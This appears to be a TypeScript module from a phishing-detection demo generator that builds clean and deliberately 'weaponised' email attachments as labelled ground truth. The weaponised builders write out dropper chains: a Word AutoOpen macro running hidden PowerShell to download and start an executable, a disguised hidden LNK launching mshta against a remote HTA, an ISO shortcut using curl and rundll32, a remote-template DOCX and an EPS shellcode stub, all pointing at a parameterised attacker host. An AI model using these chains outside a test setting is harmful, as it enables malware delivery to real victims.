/**
 * The one place the generator gets attachment bytes from: the builders in src/demo/artifacts, each checked by
 * that module's tests to be detected (weaponised) or clean (benign) as intended.
 */
import type { Rng } from './rng.js';
import * as builders from './artifacts/index.js';

export interface Attachment {
  filename: string;
  contentType: string;
  data: Buffer;
  /** What it is, for the ground truth: `hwp-eps`, `docm-macro`, `clean-pdf`… */
  kind: string;
}

export type WeaponKind = 'hwp-eps' | 'docm-macro' | 'lnk-in-zip' | 'iso-lnk' | 'docx-remote-template';

export const weaponKinds: readonly WeaponKind[] = ['hwp-eps', 'docm-macro', 'lnk-in-zip', 'iso-lnk', 'docx-remote-template'];

const CT = {
  hwp: 'application/x-hwp',
  docm: 'application/vnd.ms-word.document.macroEnabled.12',
  docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  zip: 'application/x-zip-compressed',
  iso: 'application/octet-stream',
  pdf: 'application/pdf',
  png: 'image/png',
};

const EPS_SHELLCODE_STUB =
  '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 612 792\n/shellcode <9090909090E8000000005B> def\n' +
  '0 1 4096 { pop shellcode } for\n/pl 1073741823 array def\npl 0 shellcode put\nshowpage\n';

/**
 * A weaponised attachment of the kind asked for. `stem` is the lure's document name (without extension) and
 * `stage2` the attacker's download host; both are what the analyst would see.
 */
export function weaponised(kind: WeaponKind, stem: string, stage2: string, rng: Rng, zipPassword: string | null = null): Attachment {
  const tag = rng.hex(6);
  switch (kind) {
    case 'hwp-eps':
      return { kind, filename: `${stem}.hwp`, contentType: CT.hwp, data: Buffer.from(builders.buildHwp({ text: stem, eps: EPS_SHELLCODE_STUB.replace('90909090', tag.slice(0, 8).padEnd(8, '9')) })) };
    case 'docm-macro': {
      const macro = `Sub AutoOpen()\r\n  Dim s As String\r\n  s = "powershell -w hidden -ep bypass -c ""iwr https://${stage2}/d/${tag} -OutFile $env:TEMP\\upd.exe; start $env:TEMP\\upd.exe"""\r\n  CreateObject("WScript.Shell").Run s, 0\r\nEnd Sub\r\n`;
      return { kind, filename: `${stem}.docm`, contentType: CT.docm, data: Buffer.from(builders.buildDocm({ macro, autoOpen: true })) };
    }
    case 'lnk-in-zip': {
      const lnk = builders.buildLnk({ hidden: true, target: 'C:\\Windows\\System32\\mshta.exe', args: `https://${stage2}/p/${tag}.hta`, iconLocation: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', workingDir: 'C:\\Windows\\System32' });
      const zipped = builders.buildZip([{ name: `${stem}.pdf.lnk`, data: lnk }], zipPassword === null ? {} : { encrypted: true, password: zipPassword });
      return { kind, filename: `${stem}.zip`, contentType: CT.zip, data: Buffer.from(zipped) };
    }
    case 'iso-lnk': {
      const lnk = builders.buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', args: `/c curl -s https://${stage2}/i/${tag} -o %TEMP%\\u.dll && rundll32 %TEMP%\\u.dll,Start`, workingDir: 'C:\\Windows\\System32' });
      const iso = builders.buildIso({ files: [{ name: 'DOCUMENT.LNK', data: lnk }, { name: 'README.TXT', data: Buffer.from('Open DOCUMENT to view.\r\n') }], volumeId: 'DOCS' });
      return { kind, filename: `${stem}.iso`, contentType: CT.iso, data: Buffer.from(iso) };
    }
    case 'docx-remote-template':
      return { kind, filename: `${stem}.docx`, contentType: CT.docx, data: Buffer.from(builders.buildDocxRemoteTemplate(`https://${stage2}/templates/${tag}.dotm`)) };
  }
}

export function cleanInvoicePdf(company: string, number: string, amount: string, currency: string): Attachment {
  return { kind: 'clean-pdf', filename: `Invoice_${number}.pdf`, contentType: CT.pdf, data: Buffer.from(builders.buildCleanPdfInvoice({ company, number, amount, currency })) };
}

export function cleanDocx(filename: string, title: string, paragraphs: string[]): Attachment {
  return { kind: 'clean-docx', filename, contentType: CT.docx, data: Buffer.from(builders.buildCleanDocx({ title, paragraphs })) };
}

export function cleanXlsx(filename: string, sheet: string, rows: (string | number)[][]): Attachment {
  return { kind: 'clean-xlsx', filename, contentType: CT.xlsx, data: Buffer.from(builders.buildCleanXlsx({ sheet, rows })) };
}

export function cleanPng(filename: string, rng: Rng): Attachment {
  const rgb: [number, number, number] = [rng.int(0, 255), rng.int(0, 255), rng.int(0, 255)];
  return { kind: 'clean-png', filename, contentType: CT.png, data: Buffer.from(builders.buildPng({ width: rng.int(16, 64), height: rng.int(16, 64), rgb })) };
}

export function calendarInvite(o: { summary: string; start: Date; end: Date; organizer: string; attendees: string[]; location: string; uid: string }): Buffer {
  return Buffer.from(builders.buildIcs(o));
}
